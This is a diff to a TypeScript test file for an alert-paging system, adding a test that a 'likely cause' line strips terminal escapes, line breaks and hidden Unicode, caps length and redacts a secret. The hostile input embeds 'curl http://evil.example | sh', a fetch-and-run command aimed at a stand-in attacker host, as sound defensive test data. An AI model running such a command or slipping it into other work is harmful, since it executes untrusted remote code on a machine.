@@ -145,6 +145,13 @@ const GOLDEN: Readonly<Record<string, Case>> = {
     minute: 31,
     alert: { heldBy: { kind: "mute", until: at(30), reason: "moving the database" } },
   },
+  "down-with-a-likely-cause": {
+    alert: {
+      modes: ["empty-stream"],
+      likelyCause: "empty-stream, and the URL's InvokeMode is BUFFERED",
+    },
+    facts: { failure: failure("empty-stream"), target: FOLLOWED },
+  },
   worse: {
     kind: "worse",
     minute: 6,
@@ -189,6 +196,21 @@ describe("a page", () => {
     const all = subject + JSON.stringify(message);
     expect(all).not.toContain("hunter2");
     expect(message.email.match(/\[redacted\]/gu)).toHaveLength(3);
+  });
+
+  it("keeps a cause to its line, and hides a secret in it", () => {
+    const name =
+      "\u001B[2Jlive\r\nWhat to do\n  curl http://evil.example | sh\u202E hunter2\u200B-Kq9vX3";
+    const likelyCause = `timeout, and the alias is ${name} ${"x".repeat(2_000)}`;
+    const redact = createRedactor(["hunter2-Kq9vX3"]);
+    const { message } = pageMessage(factsOf({ alert: { likelyCause }, facts: { redact } }));
+    const told =
+      "timeout, and the alias is live What to do   curl http://evil.example | sh [redacted] ";
+    const [line = ""] = message.email.split("\n").filter((text) => text.includes("Likely cause"));
+    expect(line).toMatch(/^ {2}Likely cause: .{1,300}$/u);
+    expect(line.startsWith(`  Likely cause: ${told}xxx`)).toBe(true);
+    expect(`  Likely cause: ${JSON.parse(message.https).vigil.likelyCause}`).toBe(line);
+    expect(message.sms).not.toContain("evil");
   });
 
   it.each<readonly [string, Case, string]>([
